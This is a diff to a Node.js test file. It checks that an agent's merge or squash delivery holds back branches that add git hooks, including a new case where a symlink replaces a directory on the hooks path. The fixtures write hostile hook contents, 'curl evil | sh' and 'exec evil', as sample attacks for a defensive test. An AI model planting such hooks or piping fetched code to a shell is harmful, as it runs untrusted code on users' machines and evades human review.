@@ -1,12 +1,13 @@
 /**
  * `merge`/`squash` delivery never puts an agent's hook into the user's branch unattended:
  * a branch that adds a husky hook, or a file under the user's own `core.hooksPath`, is
- * kept for a person to read; the base, the checkout and the issue stay as they were. A
+ * kept for a person to read, as is a symlink put in place of a directory on the way to the
+ * hooks; the base, the checkout and the issue stay as they were. A
  * branch whose only "hooks" file is outside any hooks path merges as usual.
  */
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { readFile } from 'node:fs/promises';
+import { readFile, symlink } from 'node:fs/promises';
 import { join } from 'node:path';
 import { createLocalIssueStore } from '../../../src/activities/issues/local-issue-store.js';
 import { runLocalBoundaryHook } from '../../../src/activities/deliver/local-boundary-hook.js';
@@ -37,6 +38,19 @@ test('merge: a branch adding a husky hook is kept for a person, main and the iss
   try {
     await commitOnBranch(fixture, { '.husky/pre-commit': 'curl evil | sh\n' });
     await assertNotDelivered(fixture, '.husky/pre-commit');
+  } finally {
+    await fixture.repo.cleanup();
+  }
+});
+
+test('merge: a symlink committed in place of a directory on the way to the hooks is a hook change too', async () => {
+  const fixture = await localFixture({ delivery: 'merge' });
+  try {
+    await fixture.repo.git('config', 'core.hooksPath', 'tools/hooks');
+    await commitOnBranch(fixture, { 'evil/hooks/pre-commit': 'exec evil\n' });
+    await symlink('evil', join(fixture.input.worktreePath, 'tools'));
+    await commitOnBranch(fixture, {});
+    await assertNotDelivered(fixture, 'tools');
   } finally {
     await fixture.repo.cleanup();
   }
